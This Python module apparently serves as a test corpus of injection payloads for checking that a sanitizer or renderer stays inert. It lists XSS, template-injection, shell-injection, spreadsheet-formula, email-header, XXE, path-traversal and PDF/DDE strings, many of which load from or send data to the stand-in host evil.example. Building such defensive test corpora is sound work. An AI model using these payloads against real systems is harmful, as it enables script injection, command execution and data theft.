"""Words that would run or load something if they were ever taken for more than words, by what they attack.

They are short, so that many fit into one field. ``alert`` would open a dialog, ``evil.example`` would be asked for
something, 71911 times 7919 is 569463209: none of the three may be seen to happen.
"""

OUTSIDE = "evil.example"
COMPUTED = "569463209"

SCRIPTS = r"""
<script>alert(1)</script>
<ScRiPt src=//evil.example/a.js></sCrIpT>
<script src="https://evil.example/a.js"></script>
</script><script>alert(2)</script>
<scr<script>ipt>alert(3)</scr</script>ipt>
<script type=module>import "//evil.example/m.js"</script>
<script>/*</script>*/alert(4)</script>
"><script>alert(5)</script>
'><script>alert(6)</script>
--><script>alert(7)</script>
]]><script>alert(8)</script>
</title><script>alert(9)</script>
</textarea><script>alert(10)</script>
</style><script>alert(11)</script>
<noscript><p title="</noscript><script>alert(12)</script>">
<script>alert`13`</script>
%3Cscript%3Ealert(14)%3C/script%3E
&lt;script&gt;alert(15)&lt;/script&gt;
&#60;script&#62;alert(16)&#60;/script&#62;
\u003cscript\u003ealert(17)\u003c/script\u003e
<script x>alert(18)</script x>
<<script>alert(19);//<</script>
""".split("\n")

HANDLERS = r"""
<img src=x onerror=alert(20)>
<img src=x onerror="alert(21)">
<img/src="x"/onerror=alert(22)>
<img src=`x` onerror=alert(23)>
" onmouseover=alert(24) x="
' onfocus=alert(25) autofocus x='
<body onload=alert(26)>
<input autofocus onfocus=alert(27)>
<details open ontoggle=alert(28)>
<video src=x onerror=alert(29)>
<audio src=//evil.example/a.mp3 autoplay>
<marquee onstart=alert(30)>
<select autofocus onfocus=alert(31)>
<a href=# onclick=alert(32)>go</a>
<p onpointerenter=alert(33)>hover</p>
<div style="animation-name:x" onanimationstart=alert(34)>
<img src=x oneRror=alert(35)//
<a href="x" style="display:block" onmouseenter=alert(36)>a</a>
<br onbeforecopy=alert(37) contenteditable>
<b onclick
=alert(38)>b</b>
`onmouseover=alert(39)`
" autofocus tabindex=1 onfocus=alert(40) "
<img src="x:x" title="a" onerror="window['al'+'ert'](41)">
""".split("\n")

LINKS = r"""
[a](javascript:alert(42))
[a](JaVaScRiPt:alert(43))
[a](java&#10;script:alert(44))
[a](&#106;avascript:alert(45))
[a]( javascript:alert(46))
[a](data:text/html,<script>alert(47)</script>)
[a](data:text/html;base64,PHNjcmlwdD5hbGVydCg0OCk8L3NjcmlwdD4=)
[a](vbscript:msgbox(49))
[a](java&#27;script:alert(95))
[a](java&#x200B;script:alert(96))
[a](file:///etc/passwd)
[a](//evil.example/)
[a](https://example.org" onclick="alert(50))
[a](https://example.org 'x" onclick="alert(51)')
[a][b] [b]: javascript:alert(52)
<javascript:alert(53)>
<a href="javascript:alert(54)">a</a>
<a href=" &#14; javascript:alert(55)">a</a>
<a href="jav&Tab;ascript:alert(56)">a</a>
![a](javascript:alert(57))
![a](https://evil.example/pixel.png)
![a](//evil.example/pixel.png "t")
<area href=javascript:alert(58)>
<a ping="https://evil.example/" href="https://example.org">a</a>
<a target=_top href="https://example.org">a</a>
[a](blob:https://evil.example/1)
[a](ws://evil.example/)
<https://evil.example/>"onclick=alert(59)
""".split("\n")

DRAWINGS = r"""
<svg onload=alert(60)>
<svg/onload=alert(61)>
<svg><script>alert(62)</script></svg>
<svg><script href=//evil.example/s.js></script></svg>
<svg><animate onbegin=alert(63) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(64)"><text>a</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(65) />#x"/></svg>
<svg><foreignObject><body onload=alert(66)></foreignObject></svg>
<svg><image href="https://evil.example/i.svg"/></svg>
<svg><set attributeName=href to=javascript:alert(67)>
<svg><style>@import"//evil.example/s.css"</style></svg>
<math><mi xlink:href="javascript:alert(68)">x</mi></math>
<math href="javascript:alert(69)">x</math>
<math><mtext><table><mglyph><style><img src onerror=alert(70)>
<svg></p><style><a id="</style><img src=1 onerror=alert(71)>">
<svg><desc><![CDATA[</desc><script>alert(72)</script>]]></svg>
</svg><script>alert(73)</script>
<svg><title><img src=x onerror=alert(74)></title></svg>
""".split("\n")

STYLES_AND_FRAMES = r"""
<style>*{background:url(//evil.example/b)}</style>
<style>@import url(https://evil.example/c.css);</style>
<link rel=stylesheet href=//evil.example/d.css>
<link rel=prefetch href=//evil.example/e>
<p style="background:url(https://evil.example/f)">p</p>
<p style="position:fixed;inset:0;z-index:9999">cover</p>
<iframe src=//evil.example/></iframe>
<iframe srcdoc="<script>alert(75)</script>"></iframe>
<object data=//evil.example/g.swf></object>
<embed src=//evil.example/h>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example/">
<meta http-equiv=Content-Security-Policy content="script-src *">
<form action=//evil.example/><button>send</button></form>
<button formaction=javascript:alert(76)>b</button>
<isindex action=//evil.example/ type=submit>
<template><script>alert(77)</script></template>
<portal src=//evil.example/></portal>
<dialog open>cover</dialog>
<xss-element is="x" onfocus=alert(78) tabindex=1>
<plaintext>
<xmp><script>alert(79)</script></xmp>
<!--><img src=x onerror=alert(80)>-->
<![if IE]><script>alert(81)</script><![endif]>
<?xml-stylesheet href="javascript:alert(82)"?>
<!DOCTYPE html><html manifest=//evil.example/m>
""".split("\n")

TEMPLATES = r"""
{{ 71911*7919 }}
{{71911*7919}}{% raw %}
{% for x in range(3) %}{{ 71911*7919 }}{% endfor %}
{{ config.items() }}{{ self.__init__.__globals__ }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{% include "/etc/passwd" %}
{% import "os" as os %}{{ os.popen("id").read() }}
{# comment #}{{ 71911*7919 }}
${71911*7919} #{71911*7919} <%= 71911*7919 %> *{71911*7919}
%(site)s %s %d %n {0} {site} {0.__class__}
{{ cycler.__init__.__globals__.os.popen('id') }}
$(id) `id` ; id | id && id
#eval("71911*7919") #(71911*7919)
#read("/etc/passwd")
#image("/etc/passwd") #include "x.typ"
#link("javascript:alert(83)")[a]
#raw("x") #show: x => [y] #set page(fill: red)
$ 71911 times 7919 $ \u{41} @label <label>
#import "@preview/x:1.0.0": *
] } ) #panic("x") [ { (
\input{/etc/passwd} \write18{id} \href{javascript:alert(84)}{a}
""".split("\n")

TABLES_AND_LETTERS = r"""
=1+1
=cmd|'/C calc'!A1
+cmd|'/C calc'!A1
-2+3+cmd|'/C calc'!A1
@SUM(1+9)*cmd|'/C calc'!A1
=HYPERLINK("http://evil.example/?"&A1,"x")
=IMPORTXML("https://evil.example","//a")
=WEBSERVICE("https://evil.example/")
 =1+1
"=1+1","x"
a;=1+1;b
x%0D%0ABcc: all@evil.example
Bcc: all@evil.example
Subject: other
Content-Type: text/html
Content-Disposition: attachment; filename="a.exe"
=?utf-8?Q?=0D=0ABcc:all=40evil.example?=
.
From here on
--boundary--
BEGIN:VALARM TRIGGER:-PT1M ACTION:EMAIL END:VALARM
ATTACH;FMTTYPE=text/html:https://evil.example/
\, \; \n DTSTART:20260101
""".split("\n")

PAPERS = r"""
<!ENTITY x SYSTEM "file:///etc/passwd"> &x;
<!DOCTYPE x [<!ENTITY a "aaa"><!ENTITY b "&a;&a;">]> &b;
<?xml version="1.0"?><x/>
]]> <![CDATA[x]]>
&amp;x; &x; &#0; &#x1F; &#xD800; &#xFFFE;
<xi:include href="file:///etc/passwd" parse="text"/>
<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe</w:instrText>
</w:t></w:r><w:r><w:fldSimple w:instr="INCLUDETEXT x"/>
{ INCLUDEPICTURE "https://evil.example/i.png" }
<ph id="1"/><pc id="2">x</pc><mrk id="m"/>
../../../../etc/passwd
..\..\windows\win.ini
/JavaScript /OpenAction /Launch /URI (https://evil.example)
) Tj ET /S /JavaScript /JS (app.alert(85))
%PDF-1.7 endstream endobj
{"__proto__":{"x":1}}
\u2028alert(86)\u2029
*[HTML]: <script>alert(87)</script>
| a | b |<script>alert(88)</script>
```<script>alert(89)</script>```
    <script>alert(90)</script>
> <img src=x onerror=alert(91)>
1. <img src=x onerror=alert(92)>
~~~ html <script>alert(93)</script>
[^1]: <script>alert(94)</script>
!!python/object/apply:os.system [id]
*alias &anchor <<: *merge
""".split("\n")

FAMILIES = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "links": LINKS,
    "drawings": DRAWINGS,
    "styles and frames": STYLES_AND_FRAMES,
    "templates": TEMPLATES,
    "tables and letters": TABLES_AND_LETTERS,
    "papers": PAPERS,
}
PAYLOADS = tuple(payload for family in FAMILIES.values() for payload in family if payload)
